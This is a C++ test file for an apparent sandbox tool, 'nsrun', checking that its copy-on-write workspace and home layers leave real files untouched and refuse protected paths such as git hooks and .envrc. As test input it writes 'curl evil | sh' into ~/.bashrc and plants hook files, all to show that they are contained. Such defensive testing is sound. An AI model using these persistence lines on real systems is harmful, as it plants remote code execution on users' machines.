// The copy-on-write workspace and the copy-on-write home: the real workspace
// and the real home are never written by the command; `nsrun changes` /
// `commit` / `discard` and `nsrun home diff` / `reset` review and drop what
// it wrote. Every test checks the host's files.
#include "cow_support.hpp"
#include "harness.hpp"

#include <catch2/catch_test_macros.hpp>

#include <ftw.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <ctime>
#include <functional>
#include <map>
#include <string>

using namespace nsrun_test;
using namespace nsrun_test::cow;

// manifest(), run_id_of(), layer_env(), wait_for_next_tick(), in():
// tests/integration/cow_support.hpp (shared with cow_commit_test.cpp).

TEST_CASE("cow workspace: the real one is untouched; changes, patch, commit and discard", "[cow]") {
  require_userns();
  TempDir ws("cow-ws"), state("cow-state"), home("cow-home");
  write_file(ws / "edit.txt", "one\ntwo\nthree\n");
  write_file(ws / "del.txt", "bye\n");
  write_file(ws / "old name.txt", "moved\n");
  write_file(ws / "nonl.txt", "no newline");
  make_dir(ws / "repl");
  write_file(ws / "repl/a", "a\n");
  write_file(ws / "repl/b", "b\n");
  make_dir(ws / "gone");
  write_file(ws / "gone/x", "x\n");
  write_file(ws / "mode.sh", "#!/bin/sh\n");
  wait_for_next_tick(ws / "mode.sh");
  const auto before = manifest(ws.path());
  const auto env = layer_env(state, home.path());

  const std::string script =
      "set -e; echo four >> edit.txt; rm del.txt; mv 'old name.txt' 'new name.txt'; rm -r repl; mkdir repl; "
      "echo c > repl/c; ln -s edit.txt link; printf 'two\\nlines\\n' > \"$(printf 'nl\\nname')\"; "
      "printf 'still none' > nonl.txt; rm -r gone; chmod +x mode.sh; mkdir -p new/deeper; echo d > new/deeper/f";
  const std::string id = cow_run(ws, env, script);
  // Byte-identical until commit.
  CHECK(manifest(ws.path()) == before);

  RunResult changes = nsrun({"changes", id}, in(ws, env));
  INFO(changes.out << changes.err);
  REQUIRE(changes.exit_code == 0);
  for (const char* line : {"M edit.txt\n", "D del.txt\n", "D old name.txt\n", "A new name.txt\n", "R repl/\n",
                           "A link\n", "A \"nl\\nname\"\n", "M nonl.txt\n", "D gone/\n", "M mode.sh\n", "A new/\n"})
    CHECK(changes.out.find(line) != std::string::npos);

  RunResult patch = nsrun({"changes", id, "--patch"}, in(ws, env));
  REQUIRE(patch.exit_code == 0);
  // git apply accepts it, on a copy of the workspace as it was.
  TempDir copy("cow-copy");
  REQUIRE(run({"cp", "-a", ws.path() + "/.", copy.path()}).exit_code == 0);
  write_file(copy / "the.patch", patch.out);
  std::optional<std::map<std::string, std::string>> applied;
  if (access("/usr/bin/git", X_OK) == 0) {
    RunResult git = run({"git", "apply", "--unsafe-paths", "the.patch"}, at(copy));
    INFO(patch.out << git.err);
    CHECK(git.exit_code == 0);
    REQUIRE(::unlink((copy / "the.patch").c_str()) == 0);
    applied = manifest(copy.path());
  } else {
    WARN("SKIP part: git is not installed, so git apply of the patch is not checked");
  }

  RunResult committed = nsrun({"commit", id}, in(ws, env));
  INFO(committed.out << committed.err);
  REQUIRE(committed.exit_code == 0);
  CHECK(read_file(ws / "edit.txt") == "one\ntwo\nthree\nfour\n");
  CHECK_FALSE(file_exists(ws / "del.txt"));
  CHECK_FALSE(file_exists(ws / "old name.txt"));
  CHECK(read_file(ws / "new name.txt") == "moved\n");
  CHECK_FALSE(file_exists(ws / "repl/a"));
  CHECK(read_file(ws / "repl/c") == "c\n");
  CHECK(read_link(ws / "link") == "edit.txt");
  CHECK(read_file(ws / "nl\nname") == "two\nlines\n");
  CHECK(read_file(ws / "nonl.txt") == "still none");
  CHECK_FALSE(file_exists(ws / "gone"));
  CHECK(read_file(ws / "new/deeper/f") == "d\n");
  struct stat st{};
  REQUIRE(::stat((ws / "mode.sh").c_str(), &st) == 0);
  CHECK((st.st_mode & 0100) != 0);
  // The patch and the commit agree (git knows no empty directories).
  if (applied) CHECK(manifest(ws.path()) == *applied);

  // Committed changes leave the layer; discard drops the rest.
  RunResult after = nsrun({"changes", id}, in(ws, env));
  CHECK(after.exit_code == 0);
  CHECK(after.out.empty());
  RunResult discarded = nsrun({"discard", id}, in(ws, env));
  CHECK(discarded.exit_code == 0);
  RunResult gone = nsrun({"changes", id}, in(ws, env));
  CHECK(gone.exit_code == 125);
}

TEST_CASE("cow workspace: a file the host changed since the run started is a conflict", "[cow]") {
  require_userns();
  TempDir ws("cow-ws"), state("cow-state"), home("cow-home");
  write_file(ws / "shared.txt", "host v1\n");
  write_file(ws / "other.txt", "other v1\n");
  const auto env = layer_env(state, home.path());
  // A file changed in the clock tick the run starts in counts as changed
  // (file times come from a coarse clock; docs/hardening.md): let the tick
  // pass, as a user's edits a moment earlier would have.
  wait_for_next_tick(ws / "other.txt");
  const std::string id =
      cow_run(ws, env, "echo sandbox > shared.txt && echo sandbox > other.txt && echo new > added.txt");
  write_file(ws / "shared.txt", "host v2\n");

  RunResult c = nsrun({"commit", id}, in(ws, env));
  INFO(c.out << c.err);
  CHECK(c.exit_code == 3);
  CHECK(c.err.find("conflict: shared.txt") != std::string::npos);
  CHECK(read_file(ws / "shared.txt") == "host v2\n");
  // The others went in.
  CHECK(read_file(ws / "other.txt") == "sandbox\n");
  CHECK(read_file(ws / "added.txt") == "new\n");

  RunResult forced = nsrun({"commit", id, "shared.txt", "--force"}, in(ws, env));
  CHECK(forced.exit_code == 0);
  CHECK(read_file(ws / "shared.txt") == "sandbox\n");
  CHECK(nsrun({"discard", id}, in(ws, env)).exit_code == 0);
}

TEST_CASE("cow workspace: protected paths are refused at commit", "[cow]") {
  require_userns();
  TempDir ws("cow-ws"), state("cow-state"), home("cow-home");
  // No .git/hooks yet: a missing name directly in .git is one the
  // protection inside the sandbox does not keep (git makes its lock files
  // there), so the command can make it in its layer, and the commit is what
  // must refuse it. An existing .git/hooks would be read-only in the
  // sandbox too (the protection applies on top of the overlay).
  make_dir(ws / ".git");
  write_file(ws / ".git/HEAD", "ref: refs/heads/main\n");
  const auto env = layer_env(state, home.path());
  const std::string id =
      cow_run(ws, env,
              "mkdir .git/hooks && echo evil > .git/hooks/pre-commit && echo evil > .envrc && echo fine > ok.txt");
  RunResult c = nsrun({"commit", id}, in(ws, env));
  INFO(c.out << c.err);
  CHECK(c.exit_code == 4);
  CHECK(c.err.find("nsrun: protected path .git/hooks: not committed") != std::string::npos);
  CHECK(c.err.find("nsrun: protected path .envrc: not committed") != std::string::npos);
  CHECK_FALSE(file_exists(ws / ".git/hooks"));
  CHECK_FALSE(file_exists(ws / ".envrc"));
  CHECK(read_file(ws / "ok.txt") == "fine\n");
  CHECK(nsrun({"discard", id}, in(ws, env)).exit_code == 0);
}

TEST_CASE("cow workspace: the Landlock rung refuses it with a reason code, never writes directly", "[cow][landlock]") {
  require_landlock();
  TempDir ws("cow-ws"), state("cow-state"), home("cow-home");
  RunResult r = nsrun({"--backend", "landlock", "--workspace-mode", "cow", "--", "sh", "-c", "echo x > written"},
                      in(ws, layer_env(state, home.path())));
  INFO(r.err);
  CHECK(r.exit_code == 125);
  CHECK(r.err.find("landlock-cannot-express") != std::string::npos);
  CHECK_FALSE(file_exists(ws / "written"));
}

TEST_CASE("cow home: a write to ~/.bashrc reaches the next run with the layer, never the real file", "[cow][home]") {
  require_userns();
  TempDir ws("cow-ws"), state("cow-state"), home("cow-home");
  write_file(home / ".bashrc", "# real\n");
  make_dir(home / "src");
  const auto before = manifest(home.path());
  const auto env = layer_env(state, home.path());

  RunResult w = nsrun({"--home", "cow", "--", "sh", "-c", "echo 'curl evil | sh' >> ~/.bashrc && mkdir -p ~/.cache/x && echo c > ~/.cache/x/y"},
                      in(ws, env));
  INFO(w.err);
  REQUIRE(w.exit_code == 0);
  CHECK(manifest(home.path()) == before);
  CHECK(read_file(home / ".bashrc") == "# real\n");

  RunResult again = nsrun({"--home", "cow", "--", "cat", home / ".bashrc", home / ".cache/x/y"}, in(ws, env));
  CHECK(again.exit_code == 0);
  CHECK(again.out == "# real\ncurl evil | sh\nc\n");

  RunResult diff = nsrun({"home", "diff"}, in(ws, env));
  INFO(diff.err);
  CHECK(diff.exit_code == 0);
  CHECK(diff.out.find("M .bashrc\n") != std::string::npos);
  CHECK(diff.out.find("A .cache/\n") != std::string::npos);
  RunResult listed = nsrun({"home", "list"}, in(ws, env));
  CHECK(listed.out.find("(this workspace)") != std::string::npos);

  // Another workspace has a layer of its own; --home-layer shares one.
  TempDir other("cow-other");
  RunResult elsewhere = nsrun({"--home", "cow", "--", "cat", home / ".bashrc"}, in(other, env));
  CHECK(elsewhere.out == "# real\n");

  RunResult reset = nsrun({"home", "reset"}, in(ws, env));
  CHECK(reset.exit_code == 0);
  RunResult fresh = nsrun({"--home", "cow", "--", "cat", home / ".bashrc"}, in(ws, env));
  CHECK(fresh.out == "# real\n");
  CHECK(manifest(home.path()) == before);
}

TEST_CASE("cow home: the layer may live inside $HOME; the workspace there keeps its direct bind", "[cow][home]") {
  require_userns();
  TempDir home("cow-home");
  make_dir(home / "src");
  make_dir(home / "src/proj");
  write_file(home / ".profile", "# real\n");
  TempDir& h = home;
  RunOptions o;
  o.cwd = h / "src/proj";
  // No XDG_STATE_HOME: the layers go to ~/.local/state/nsrun/home.
  o.env = {"HOME=" + h.path(), "XDG_STATE_HOME=", "XDG_RUNTIME_DIR="};
  const auto before = manifest(h.path(), h / ".local");
  RunResult r = nsrun({"--home", "cow", "--", "sh", "-c",
                       "echo built > out.txt && echo x >> ~/.profile && ls ~/.local/state/nsrun/home; echo ls=$?"},
                      o);
  INFO(r.out << r.err);
  REQUIRE(r.exit_code == 0);
  // The layers are hidden inside.
  CHECK(r.out.find("ls=0") != std::string::npos);
  CHECK(r.out.find("proj-") == std::string::npos);
  CHECK(read_file(h / "src/proj/out.txt") == "built\n");
  CHECK(read_file(h / ".profile") == "# real\n");
  auto after = manifest(h.path(), h / ".local");
  after.erase("/src/proj/out.txt");
  CHECK(after == before);
}

TEST_CASE("cow home: --home rw is stated; --home ro leaves the home read-only", "[cow][home]") {
  require_userns();
  TempDir ws("cow-ws"), state("cow-state"), home("cow-home");
  const auto env = layer_env(state, home.path());
  RunResult ro = nsrun({"--home", "ro", "--", "sh", "-c", "echo x > ~/f"}, in(ws, env));
  CHECK(ro.exit_code != 0);
  CHECK_FALSE(file_exists(home / "f"));
  RunResult rw = nsrun({"--home", "rw", "--", "sh", "-c", "echo x > ~/f"}, in(ws, env));
  CHECK(rw.exit_code == 0);
  CHECK(rw.err.find("nsrun: --home rw: the command can write your home directory") != std::string::npos);
  CHECK(read_file(home / "f") == "x\n");
}
